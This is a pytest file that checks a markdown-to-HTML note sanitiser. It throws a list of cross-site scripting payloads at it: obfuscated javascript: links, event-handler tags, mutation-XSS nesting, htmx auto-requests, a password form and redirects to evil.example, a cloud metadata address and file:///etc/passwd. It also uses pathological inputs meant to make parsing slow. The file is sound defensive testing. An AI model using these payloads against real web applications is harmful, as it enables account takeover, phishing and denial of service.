"""What a note may become: the result is parsed, since escaped text looks like markup to a pattern."""

import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from progress.notes.markdown import ATTRIBUTES, SCHEMES, TAGS, to_html

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnError=alert(1)//",
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](blob:https://example.org/1)",
    "[x](filesystem:https://example.org/1)",
    "[x](intent://scan#Intent;end)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[x](https://example.org "t\\" onmouseover=alert(1) x=\\"")',
    '[x](https://example.org/"onmouseover=alert(1))',
    '<div hx-get="/settings/data/delete/" hx-trigger="load">x</div>',
    '<div data-hx-post="/undo/" data-hx-trigger="load">x</div>',
    '<a hx-on:click="alert(1)">x</a>',
    '<svg onload="alert(1)"></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<form action="https://evil.example"><input name=password><button>',
    "<base href=https://evil.example/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=x></object><embed src=x>",
    "<style>*{display:none}</style>",
    '<p style="position:fixed;inset:0">x</p>',
    "<textarea></textarea><title></title><select>",
    "<template><img src=x></template>",
    '<a id="status" class="button" name="csrfmiddlewaretoken">x</a>',
    "![x](http://169.254.169.254/)",
    "![x](javascript:alert(1))",
    "![x][r]\n\n[r]: https://evil.example/pixel.png",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><!DOCTYPE x>",
    "```<img src=x>\n<img src=x onerror=alert(1)>\n```",
    '```"onload="alert(1)\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "&lt;img src=x onerror=alert(1)&gt;",
    "| <img src=x> | [x](javascript:alert(1)) |\n|:-:|--:|\n| <svg/onload=alert(1)> | x |",
    "# <img src=x onerror=alert(1)> {#id onclick=alert(1)}",
    "~~<img src=x>~~ **[x](javascript:alert(1))**",
]
SLOW = {
    "opening brackets": "[" * 20_000,
    "image brackets": "![" * 10_000,
    "link starts": "[](" * 6_666,
    "quotes in quotes": ">" * 5_000 + "a",
    "spaced quotes": "> " * 10_000,
    "lists in lists": "- " * 10_000,
    "stars": "*a" * 10_000,
    "stars and lines": "*a_b" * 5_000,
    "backticks": "`a" * 10_000,
    "angles": "<a" * 10_000,
    "entities": "&" * 20_000,
    "definitions": "[a]: /x\n" * 2_500,
    "table rows": "x|y\n-|-\n" * 2_500,
    "lines": "a\n" * 10_000,
    "just under the guard": "![" * 1_500 + "a b " * 4_000,
}


class Parsed(HTMLParser):
    def __init__(self, html):
        super().__init__()
        self.tags, self.links, self.text = [], [], ""
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, {name for name, _ in attributes}))
        self.links += [dict(attributes)] if tag == "a" else []

    def handle_data(self, data):
        self.text += data


@pytest.mark.parametrize("text", HOSTILE)
def test_only_allowed_tags_attributes_and_addresses_remain(text):
    parsed = Parsed(to_html(text))
    for tag, attributes in parsed.tags:
        assert tag in TAGS
        assert attributes <= ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
    for link in parsed.links:
        assert urlsplit(link.get("href", "")).scheme.lower() in SCHEMES | {""}
        assert link["rel"] == "noopener noreferrer nofollow"


@pytest.mark.parametrize("text", [text for text in HOSTILE if text.startswith("<") and "javascript" not in text])
def test_raw_html_is_shown_as_typed(text):
    assert text[:5].lower() in Parsed(to_html(text)).text.lower()


@pytest.mark.parametrize("text", SLOW.values(), ids=SLOW.keys())
def test_a_hostile_note_costs_little(text):
    start = time.thread_time()
    to_html(text[:20_000])
    assert time.thread_time() - start <= 0.4


def test_a_note_that_is_too_costly_is_shown_as_typed():
    parsed = Parsed(to_html("a < b\n\n" + "[" * 5_000))
    assert parsed.text.replace("\n", "").startswith("a < b[[[")
    assert {tag for tag, _ in parsed.tags} == {"p"}


def test_the_usual_markdown_works():
    html = to_html("**bold** _em_ ~~no~~ `code`\n\n- one\n- two\n\n3. three\n\n> said\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    assert {tag for tag, _ in Parsed(html).tags} >= {"strong", "em", "code", "ul", "blockquote", "table", "td"}
    assert '<ol start="3">' in html


@pytest.mark.parametrize(
    "address", ["https://example.org/a?b=c", "http://example.org", "mailto:a@example.org", "/topics/", "//evil.example"]
)
def test_links_keep_their_address_and_give_nothing_away(address):
    assert Parsed(to_html(f"[x]({address})")).links == [{"href": address, "rel": "noopener noreferrer nofollow"}]


def test_headings_begin_below_the_pages_own_without_a_gap():
    tags = [tag for tag, _ in Parsed(to_html("# A\n\n### B\n\n# C\n\nD\n---\n\n#### E")).tags]
    assert tags == ["h3", "h4", "h3", "h4", "h5"]


def test_a_bare_address_stays_text():
    assert Parsed(to_html("https://example.org")).links == []
